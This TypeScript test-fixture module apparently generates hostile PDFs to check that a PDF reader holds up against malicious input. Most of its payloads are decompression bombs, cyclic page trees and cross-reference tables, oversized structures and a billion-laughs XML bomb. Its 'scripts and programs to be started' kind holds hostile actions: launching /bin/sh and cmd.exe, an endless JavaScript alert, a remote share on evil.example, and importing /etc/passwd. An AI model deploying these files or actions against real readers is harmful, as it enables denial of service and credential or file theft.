/** Files made to harm a reader, each kind with its measures by chance. The same seed and index always give the same bytes. */
import { deflateSync } from 'node:zlib';
import { hostilePdfs } from '@paratope/server/gateways/pdf/testing/hostile-pdfs';
import { inflatesTo, type PdfObject, pdfOf, samplePdf, stream } from '@paratope/server/gateways/pdf/testing/sample-pdf';
import type { SeededRandom } from '@paratope/sync/testing/fakes';
import { packedPdf } from './packed-pdf.ts';
import { chanceOf, type MadeDeck, woundedBy } from './wounded-decks.ts';

/** Kinds take turns, so that any number of files above theirs has each of them; one in six is wounded on top. */
export function craftedDeck(seed: number, index: number): MadeDeck {
  const random = chanceOf(seed, 2 ** 31 + index);
  const [name, make] = kinds[index % kinds.length] as Kind;
  const bytes = make(random);
  return random.chance(1 / 6) ? woundedBy(random, { name, bytes }) : { name, bytes };
}

type Kind = readonly [name: string, make: (random: SeededRandom) => Uint8Array];

const helvetica = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const hello = stream('BT /F1 24 Tf 60 460 Td (Hello) Tj ET');
const flate = '/Filter /FlateDecode';
/** As many as are asked for, more often few than many. */
const upTo = (random: SeededRandom, most: number) => Math.max(1, Math.floor(most ** random.fraction()));
const flated = (content: string | Uint8Array, entries = '') => stream(deflateSync(content), `${flate} ${entries}`);

/** Object 1 the catalog, 2 the pages, 3 a font, 4 the page, 5 its drawing; `more` begins at 6. */
const onePage = ({
  contents = hello,
  more = [],
  resources = '/Font << /F1 3 0 R >>',
  page = '',
  pages = '/Count 1 /Kids [4 0 R]',
  catalog = '',
  trailer = '',
  box = '[0 0 960 540]',
}: {
  contents?: PdfObject;
  more?: readonly PdfObject[];
  resources?: string;
  page?: string;
  pages?: string;
  catalog?: string;
  trailer?: string;
  box?: string;
}) =>
  pdfOf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      `<< /Type /Pages ${pages} >>`,
      helvetica,
      `<< /Type /Page /Parent 2 0 R /MediaBox ${box} /Resources << ${resources} >> /Contents 5 0 R ${page} >>`,
      contents,
      ...more,
    ],
    trailer,
  );

const withFont = (font: string, more: readonly PdfObject[] = [], text = '<00010002414243>') =>
  onePage({
    contents: stream(`BT /F2 24 Tf 60 460 Td ${text} Tj (ABC) Tj ET`),
    resources: '/Font << /F1 3 0 R /F2 6 0 R >>',
    more: [font, ...more],
  });

const composite = (entries: string, descendant: string, more: readonly PdfObject[] = []) =>
  withFont(`<< /Type /Font /Subtype /Type0 /BaseFont /Nameless /DescendantFonts [7 0 R] ${entries} >>`, [
    `<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Nameless /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> ${descendant} >>`,
    ...more,
  ]);

const nested = (content: Uint8Array, times: number): Uint8Array =>
  times === 0 ? content : nested(deflateSync(content), times - 1);

/** Noise that begins as the real thing does. */
const beginning = (random: SeededRandom, start: string, most = 20_000) =>
  Buffer.concat([Buffer.from(start, 'latin1'), random.bytes(upTo(random, most))]);

const kinds: readonly Kind[] = [
  ['a bomb', (random) => bomb(random, 1)],
  ['a bomb within bombs', (random) => bomb(random, 2 + random.below(4))],
  [
    'many small bombs',
    (random) => {
      const pages = 2 + random.below(198);
      const drawing = inflatesTo(1 / 64, random.pick([' ', '[', '(a)Tj ', 'q Q ', '0 ']));
      return pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        `<< /Type /Pages /Count ${pages} /Kids [${'4 0 R '.repeat(pages)}] >>`,
        helvetica,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 960 540] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>',
        stream(drawing, flate),
      ]);
    },
  ],
  [
    'a predictor of monstrous rows',
    (random) =>
      onePage({
        contents: flated(
          'BT (a) Tj ET '.repeat(1_000),
          `/DecodeParms << /Predictor ${random.pick([2, 10, 15, 99])} /Columns ${random.pick([2 ** 31 - 1, 1e9, 1e6, -1])} /Colors ${random.pick([1, 4, 1e6])} /BitsPerComponent ${random.pick([1, 8, 16, 1e9])} >>`,
        ),
      }),
  ],
  [
    'filters without end',
    (random) => {
      const filter = random.pick([
        'FlateDecode',
        'ASCIIHexDecode',
        'ASCII85Decode',
        'LZWDecode',
        'RunLengthDecode',
        'Nobody',
      ]);
      return onePage({
        contents: stream('BT (Hello) Tj ET', `/Filter [${`/${filter} `.repeat(upTo(random, 200_000))}]`),
      });
    },
  ],
  [
    'noise behind every filter',
    (random) =>
      onePage({
        contents: stream(
          random.bytes(upTo(random, 200_000)),
          `/Filter /${random.pick(['FlateDecode', 'LZWDecode', 'RunLengthDecode', 'ASCII85Decode', 'CCITTFaxDecode', 'DCTDecode', 'JBIG2Decode', 'JPXDecode', 'Crypt'])}`,
        ),
      }),
  ],
  [
    'a run that is repeated',
    (random) =>
      onePage({
        contents: stream(Buffer.alloc(upTo(random, 2 ** 22), Buffer.from([129, 0x20])), '/Filter /RunLengthDecode'),
      }),
  ],
  [
    'a deep page tree',
    (random) => {
      const depth = upTo(random, 60_000);
      return pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        ...Array.from(
          { length: depth },
          (_, at) => `<< /Type /Pages /Count 1 /Kids [${at + 3} 0 R] /Parent ${at + 1} 0 R >>`,
        ),
        '<< /Type /Page /MediaBox [0 0 960 540] >>',
      ]);
    },
  ],
  [
    'a page tree that branches and meets again',
    (random) => {
      const levels = 3 + random.below(60);
      const kids = 2 + random.below(8);
      return pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        ...Array.from(
          { length: levels },
          (_, at) =>
            `<< /Type /Pages /Count ${random.pick([1, 150, 200, kids ** levels])} /Kids [${`${at + 3} 0 R `.repeat(kids)}] >>`,
        ),
        '<< /Type /Page /MediaBox [0 0 960 540] >>',
      ]);
    },
  ],
  [
    'a page tree in a circle',
    (random) =>
      onePage({
        pages: `/Count ${1 + random.below(200)} /Kids [${Array.from({ length: 1 + random.below(50) }, () => `${1 + random.below(6)} 0 R`).join(' ')}] /Parent ${1 + random.below(5)} 0 R`,
      }),
  ],
  [
    'a count that lies',
    (random) =>
      onePage({
        pages: `/Count ${random.pick(['2147483647', '-1', '1e99', '0', '200', '199.5', '(one)', '2 0 R', 'null'])} /Kids [4 0 R]`,
      }),
  ],
  [
    'as many pages as may be, all one',
    (random) => {
      const pages = 150 + random.below(51);
      const words = `BT /F1 9 Tf ${'(The same again) Tj 0 -9 Td '.repeat(upTo(random, 20_000))} ET`;
      return onePage({ pages: `/Count ${pages} /Kids [${'4 0 R '.repeat(pages)}]`, contents: flated(words) });
    },
  ],
  [
    'a page of any size',
    (random) =>
      onePage({
        box: random.pick([
          '[0 0 1e30 1e30]',
          '[-9999999999 -9999999999 9999999999 9999999999]',
          '[0 0 0 0]',
          '[0 0]',
          '[5 5 5 5]',
          '(none)',
          '[4 0 R 4 0 R 4 0 R 4 0 R]',
          `[${'9'.repeat(400)} 0 1 1]`,
          `[${'0 '.repeat(1e5)}]`,
        ]),
        page: `/Rotate ${random.pick(['45', '90', '-1e9', '(up)'])} /UserUnit ${random.pick(['1e30', '-1', '0', 'null'])}`,
      }),
  ],
  [
    'packed objects that lie in themselves',
    (random) =>
      packedPdf(['One', 'Two'], (number, honest) =>
        random.chance(0.4) ? [2, random.pick([number, 4, 1, 2, 99]), random.pick([0, 1, 9, 65_535])] : honest,
      ),
  ],
  [
    'a table that points anywhere',
    (random) =>
      packedPdf(['One', 'Two'], (_, honest) =>
        random.chance(0.3) ? [random.pick([0, 1, 2, 255]), random.below(2 ** 31), random.below(65_536)] : honest,
      ),
  ],
  [
    'a packed stream with a monstrous head',
    (random) =>
      onePage({
        more: [
          flated(
            '1 0 2 0 << >>',
            `/Type /ObjStm /N ${random.pick(['2147483647', '1e9', '-1', '100000000'])} /First ${random.pick(['4', '0', '-5', '999999999'])} /Extends 6 0 R`,
          ),
        ],
        catalog: '/X 6 0 R',
      }),
  ],
  ['tables in a circle', tablesInACircle],
  [
    'a table of monstrous size',
    (random) =>
      Buffer.from(
        `%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\nxref\n0 ${random.pick(['4294967295', '999999999', '-5', '1e9'])}\n${'0000000000 65535 f \n'.repeat(upTo(random, 200_000))}trailer << /Size ${random.pick(['4294967295', '3'])} /Root 1 0 R >>\nstartxref\n58\n%%EOF`,
      ),
  ],
  [
    'widths of the table that lie',
    (random) => {
      const body = random.bytes(upTo(random, 100_000));
      return Buffer.concat([
        Buffer.from(
          `%PDF-1.7\n1 0 obj\n<< /Type /XRef /Size ${random.pick([10, 1e9, -1])} /W [${random.pick(['1 4 2', '0 0 0', '-1 -1 -1', '9 9 9', '2147483647 1 1'])}] /Index [${random.pick(['0 10', '0 2000000000', '-9 9', '0'])}] /Root 1 0 R /Length ${body.length} >>\nstream\n`,
        ),
        body,
        Buffer.from('\nendstream\nendobj\nstartxref\n9\n%%EOF'),
      ]);
    },
  ],
  [
    'a length that asks itself',
    (random) =>
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Count 1 /Kids [4 0 R] >>',
        helvetica,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 960 540] /Contents 5 0 R >>',
        `<< /Length ${random.pick(['5 0 R', '6 0 R', '1 0 R'])} /Filter ${random.pick(['5 0 R', '[6 0 R]', '/FlateDecode'])} >>\nstream\nBT (a) Tj ET\nendstream`,
        '6 0 R',
      ]),
  ],
  [
    'one giant string',
    (random) => {
      const length = upTo(random, 20_000_000);
      const text = random.pick([
        () => `(${'a'.repeat(length)}) Tj`,
        () => `(${'\\377'.repeat(length / 4)}) Tj`,
        () => `<${'4'.repeat(length)}> Tj`,
        () => `${'('.repeat(length)}`,
        () => `/${'n'.repeat(length)} gs`,
        () => `${'9'.repeat(length)} w`,
        () => `[${'(a) -9 '.repeat(length / 7)}] TJ`,
      ])();
      return onePage({
        contents: random.chance(0.5) ? stream(`BT /F1 9 Tf ${text} ET`) : flated(`BT /F1 9 Tf ${text} ET`),
      });
    },
  ],
  [
    'a giant string in the file itself',
    (random) => {
      const length = upTo(random, 20_000_000);
      return onePage({
        catalog: `/X ${random.pick([() => `(${'('.repeat(length)}`, () => `<${'f'.repeat(length)}>`, () => `/${'#41'.repeat(length / 3)}`, () => `%${' '.repeat(length)}`, () => '9'.repeat(length)])()}`,
        trailer: '/Info << /Title 1 0 R >>',
      });
    },
  ],
  [
    'brackets without end',
    (random) => {
      const depth = upTo(random, 2_000_000);
      const deep = random.pick(['[', '<< /A ', '<< /A [']).repeat(depth);
      return random.chance(0.5) ? onePage({ catalog: `/X ${deep}` }) : onePage({ contents: flated(deep) });
    },
  ],
  [
    'a million operands',
    (random) =>
      onePage({
        contents: flated(
          `${random.pick(['1 ', '(a) ', '/a ', '[] ', 'q ', 'BT ', 'BMC '])}`.repeat(upTo(random, 4_000_000)),
        ),
      }),
  ],
  [
    'words without end',
    (random) =>
      onePage({
        contents: flated(
          `BT /F1 1 Tf ${random.pick(['(word ) Tj ', '(a) Tj T* ', '[(a) -900 (b)] TJ ', '1 0 0 1 5 5 Tm (x) Tj '])}`.repeat(
            upTo(random, 1_000_000),
          ),
        ),
      }),
  ],
  [
    'broken letters',
    (random) =>
      withFont(
        `<< /Type /Font /Subtype /Type1 /BaseFont /${random.pick(['Helvetica', 'Symbol', 'ZapfDingbats', '#00#ff'])} /Encoding << /Differences [${Array.from({ length: upTo(random, 50_000) }, (_, at) => random.pick([`${at}`, '-1', '/uniD800', '/u110000', '/.notdef', '/g99999999', '(x)', '99999999999'])).join(' ')}] >> /ToUnicode 7 0 R >>`,
        [
          flated(
            `begincmap 1 begincodespacerange <00> <FF> endcodespacerange 3 beginbfchar <41> <D800> <42> <202E0000FEFF> <43> <${'DFFF'.repeat(upTo(random, 20_000))}> endbfchar endcmap`,
          ),
        ],
      ),
  ],
  [
    'a map of letters as a bomb',
    (random) =>
      composite(
        `/Encoding ${random.pick(['/Identity-H', '8 0 R', '/UniJIS-UCS2-H', '/Nobody'])} /ToUnicode 8 0 R`,
        '',
        [
          flated(
            `/CMapName /A def begincmap 8 0 R usecmap /A usecmap 1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange ${`${random.pick(['1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange', '1 begincidrange <0000> <FFFFFF> 0 endcidrange', '1 beginbfrange <0000> <FFFF> [<0041>] endbfrange'])} `.repeat(upTo(random, 300))} endcmap`,
            '/UseCMap 8 0 R',
          ),
        ],
      ),
  ],
  [
    'widths without end',
    (random) =>
      composite(
        '/Encoding /Identity-H',
        `/W [${`0 ${random.pick(['2000000000', '65535', '100000000', '-1'])} 500 `.repeat(upTo(random, 200))}] /W2 [0 ${upTo(random, 1e9)} 1 1 1] /DW ${random.pick(['1e30', '-1', '(w)'])} /CIDToGIDMap ${random.pick(['/Identity', '1 0 R', '5 0 R'])}`,
      ),
  ],
  [
    'a font program of noise',
    (random) => {
      const [key, start] = random.pick([
        ['FontFile2', '\0\x01\0\0\0\x0c\0\x80\0\x03\0@glyf\0\0\0\0\0\0\0\xff\xff\xff\xff\xffloca'],
        ['FontFile3', '\x01\0\x04\x04\0\x01\x01\x01\x05Name\0\x01\x01\x01'],
        ['FontFile', '%!PS-AdobeFont-1.0: Nameless\n/FontMatrix [0.001 0 0 0.001 0 0] def currentfile eexec\n'],
        ['FontFile3', 'OTTO\0\xff\0\0\0\0\0\0CFF '],
        ['FontFile2', 'ttcf\0\x01\0\0\xff\xff\xff\xff'],
      ] as const);
      return withFont(
        '<< /Type /Font /Subtype /TrueType /BaseFont /ABCDEF+Nameless /FirstChar -5 /LastChar 99999999 /Widths [1 2] /FontDescriptor 7 0 R >>',
        [
          `<< /Type /FontDescriptor /FontName /ABCDEF+Nameless /Flags ${random.below(2 ** 31)} /${key} 8 0 R >>`,
          flated(
            beginning(random, start),
            `/Length1 ${random.pick([-1, 10, 2 ** 31 - 1])} /Length2 9 /Subtype /${random.pick(['Type1C', 'OpenType', 'CIDFontType0C'])}`,
          ),
        ],
      );
    },
  ],
  [
    'a font that draws itself',
    (random) =>
      withFont(
        `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1e9 1e9] /FontMatrix [${random.pick(['1 0 0 1 0 0', '0 0 0 0 0 0', '1e30 0 0 1e30 0 0', '1'])}] /CharProcs << /a 7 0 R >> /Encoding << /Differences [65 /a /a /a] >> /FirstChar 65 /LastChar 67 /Widths [1 1 1] /Resources << /Font << /F2 6 0 R >> >> >>`,
        [stream(`BT /F2 1 Tf ${'(ABC) Tj '.repeat(upTo(random, 5_000))} ET`)],
      ),
  ],
  [
    'scripts and programs to be started',
    (random) => {
      const action = () =>
        random.pick([
          '<< /S /JavaScript /JS (while \\(true\\) app.alert\\("paid"\\);) >>',
          '<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>',
          '<< /S /URI /URI (http://127.0.0.1:9/) >>',
          '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>',
          '<< /S /SubmitForm /F << /FS /URL /F (http://127.0.0.1:9/) >> >>',
          '<< /S /ImportData /F (/etc/passwd) >>',
          '<< /S /Named /N /Print /Next 6 0 R >>',
          '<< /S /Rendition /JS (x) /Next [6 0 R 6 0 R] >>',
        ]);
      return onePage({
        catalog: `/OpenAction ${action()} /AA << /WC ${action()} >> /Names << /JavaScript << /Names [(a) ${action()}] >> /EmbeddedFiles << /Names [(x.exe) 7 0 R] >> >>`,
        page: `/AA << /O ${action()} >> /Annots [<< /Subtype /Link /Rect [0 0 9 9] /A ${action()} >>]`,
        more: [action(), '<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>'],
      });
    },
  ],
  [
    'drawings within drawings',
    (random) => {
      const levels = 2 + random.below(30);
      const times = 1 + random.below(10);
      const leaf = random.pick(['BT /F1 9 Tf (word) Tj ET', '/X Do', '']);
      return onePage({
        contents: stream('/X Do'),
        resources: '/Font << /F1 3 0 R >> /XObject << /X 6 0 R >>',
        more: Array.from({ length: levels }, (_, at) =>
          stream(
            at === levels - 1 ? leaf : '/X Do '.repeat(times),
            `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /Font << /F1 3 0 R >> /XObject << /X ${at === levels - 1 ? 6 : at + 7} 0 R >> >>`,
          ),
        ),
      });
    },
  ],
  [
    'a picture of any size',
    (random) =>
      onePage({
        contents: stream('q 1e9 0 0 1e9 0 0 cm /X Do Q '.repeat(upTo(random, 2_000))),
        resources: '/XObject << /X 6 0 R >>',
        more: [
          stream(
            random.bytes(500),
            `/Type /XObject /Subtype /Image /Width ${random.pick([2 ** 31 - 1, 1e5, -1])} /Height ${random.pick([2 ** 31 - 1, 1e5, 0])} /BitsPerComponent ${random.pick([8, 16, 1e9])} /ColorSpace ${random.pick(['/DeviceRGB', '[/Indexed 6 0 R 1e9 (x)]', '[/Separation /a [/ICCBased 6 0 R] 6 0 R]'])} /SMask 6 0 R ${random.pick(['', '/Filter /DCTDecode', '/Filter /JPXDecode', '/Filter /JBIG2Decode', '/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 1000000000 >>'])}`,
          ),
        ],
      }),
  ],
  [
    'pictures among the words',
    (random) =>
      onePage({
        contents: Buffer.concat([
          Buffer.from(
            `<< /Length ${random.pick([10, 1e6, -1])} >>\nstream\n${`BI /W ${random.pick([9, 1e9])} /H ${random.pick([9, 1e9])} /BPC 8 /CS /RGB /F ${random.pick(['/A85', '/LZW', '/DCT', '/Fl', '[/Fl /Fl]'])} ID `.repeat(upTo(random, 2_000))}`,
          ),
          random.bytes(5_000),
          Buffer.from('\nEI\nendstream'),
        ]),
      }),
  ],
  [
    'sums without end',
    (random) =>
      onePage({
        contents: stream(`/CS cs ${'0.5 scn /P sh '.repeat(upTo(random, 2_000))}`),
        resources: '/ColorSpace << /CS [/Separation /a /DeviceRGB 6 0 R] >> /Shading << /P 7 0 R >>',
        more: [
          stream(
            random.pick([
              '{ '.repeat(upTo(random, 200_000)),
              `{ ${'dup mul '.repeat(upTo(random, 200_000))} }`,
              '{ 1e9 cvi { dup } repeat }',
            ]),
            `/FunctionType ${random.pick([0, 2, 3, 4])} /Domain [0 1] /Range [0 1 0 1 0 1] /Size [${random.pick(['2000000000', '9 '.repeat(32)])}] /BitsPerSample 32 /Functions [6 0 R 6 0 R] /Bounds [0.5] /Encode [0 1 0 1]`,
          ),
          `<< /ShadingType ${1 + random.below(7)} /ColorSpace [/Separation /a /DeviceRGB 6 0 R] /Function 6 0 R /Domain [0 1e9 0 1e9] /Coords [0 0 1e30 0 0 1e30] >>`,
        ],
      }),
  ],
  [
    'a lock nobody made',
    (random) => {
      const noise = () => `<${Buffer.from(random.bytes(random.pick([0, 5, 32, 48, 127, 5_000]))).toString('hex')}>`;
      return samplePdf({
        pages: ['secret'],
        trailer: `/ID [${noise()} ${noise()}] /Encrypt << /Filter /Standard /V ${random.pick([0, 1, 2, 4, 5, 99])} /R ${random.pick([2, 3, 4, 5, 6, 99])} /Length ${random.pick([40, 128, 256, -8, 1e9])} /P -44 /O ${noise()} /U ${noise()} /OE ${noise()} /UE ${noise()} /Perms ${noise()} /CF << /StdCF << /CFM /${random.pick(['AESV2', 'AESV3', 'V2', 'None', 'X'])} /Length 1e9 >> >> /StmF /StdCF /StrF /StdCF >>`,
      });
    },
  ],
  [
    'a billion laughs',
    (random) => {
      const levels = 5 + random.below(12);
      const entities = Array.from(
        { length: levels },
        (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`,
      ).join('');
      const xml = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">${entities}]><x:xmpmeta xmlns:x="adobe:ns:meta/">${'<a>'.repeat(upTo(random, 200_000))}&e${levels};</x:xmpmeta>`;
      return onePage({ catalog: '/Metadata 6 0 R', more: [stream(xml, '/Type /Metadata /Subtype /XML')] });
    },
  ],
  [
    'names and contents in a circle',
    () =>
      onePage({
        catalog:
          '/Names << /Dests 6 0 R >> /Outlines 7 0 R /Dests 6 0 R /StructTreeRoot 8 0 R /AcroForm << /Fields [9 0 R] /XFA [(a) 6 0 R] >> /PageLabels 6 0 R /OCProperties << /OCGs [10 0 R] /D << /Order [[10 0 R [10 0 R]]] >> >>',
        page: '/StructParents 0 /Annots [9 0 R 9 0 R]',
        more: [
          '<< /Kids [6 0 R 6 0 R] /Names [(a) 6 0 R] /Nums [0 6 0 R] /Limits [(a) (z)] >>',
          '<< /First 7 0 R /Last 7 0 R /Next 7 0 R /Parent 7 0 R /Title (again) /Count -999999999 >>',
          '<< /Type /StructTreeRoot /K [8 0 R 8 0 R] /ParentTree 6 0 R /P 8 0 R >>',
          '<< /Type /Annot /Subtype /Widget /FT /Tx /Kids [9 0 R] /Parent 9 0 R /Rect [0 0 1e9 1e9] /AP << /N 5 0 R >> >>',
          '<< /Type /OCG /Name 10 0 R >>',
        ],
      }),
  ],
  [
    'references that refer to each other',
    (random) =>
      pdfOf([
        `<< /Type /Catalog /Pages ${2 + random.below(4)} 0 R >>`,
        ...Array.from({ length: 4 + random.below(200) }, (_, at) => `${random.pick([at + 2, at + 3, 1, 2])} 0 R`),
      ]),
  ],
  [
    'hundreds of thousands of objects',
    (random) =>
      onePage({
        more: new Array<string>(upTo(random, 400_000)).fill(random.pick(['null', '<< >>', '[]', '(x)', '7 0 R'])),
      }),
  ],
  [
    'noise that looks like objects',
    (random) =>
      Buffer.from(
        `%PDF-1.7\n${random.pick(['1 0 obj ', 'obj << stream ', '1 0 obj << /Type /Catalog /Pages 1 0 R >> endobj ', 'trailer << /Root 1 0 R >> ', 'xref 0 1 ', 'startxref 0 ', 'endobj '])}`.repeat(
          upTo(random, 300_000),
        ),
      ),
  ],
  ['plain noise', (random) => beginning(random, '%PDF-1.7\n', 2_000_000)],
  [
    'spaces and remarks',
    (random) =>
      Buffer.concat([
        Buffer.from('%PDF-1.7\n'),
        Buffer.alloc(upTo(random, 24_000_000), random.pick([' ', '%', '\0', '\n%'])),
        samplePdf({ pages: ['late'] }),
      ]),
  ],
  ['what the tests of the reader hold', (random) => random.pick(hostilePdfs).make()],
];

function bomb(random: SeededRandom, levels: number): Uint8Array {
  const filling = random.pick([' ', '[', '(', '<', '\0', 'q ', 'BT ', '(a) Tj ', '9', '/a ']);
  const drawing = nested(inflatesTo((1 + random.below(100)) / 64, filling), levels - 1);
  return onePage({ contents: stream(drawing, `/Filter [${'/FlateDecode '.repeat(levels)}]`) });
}

function tablesInACircle(random: SeededRandom): Uint8Array {
  const file = Buffer.from(samplePdf({ pages: ['One'] })).toString('latin1');
  const at = Number(/startxref\n(\d+)/.exec(file)?.[1]);
  const again = random.pick([
    `/Prev ${at}`,
    `/Prev ${at} /XRefStm ${at}`,
    '/Prev 0',
    '/Prev -1',
    `/XRefStm ${at + 9}`,
    '/Prev 1 0 R',
  ]);
  const first = file.replace('/Root 1 0 R', `/Root 1 0 R ${again}`);
  const more = Array.from(
    { length: upTo(random, 5_000) },
    () => `xref\n0 0\ntrailer\n<< /Root 1 0 R /Size 6 /Prev ${random.below(first.length)} >>\n`,
  );
  return Buffer.from(`${first}${more.join('')}startxref\n${first.length}\n%%EOF\n`, 'latin1');
}
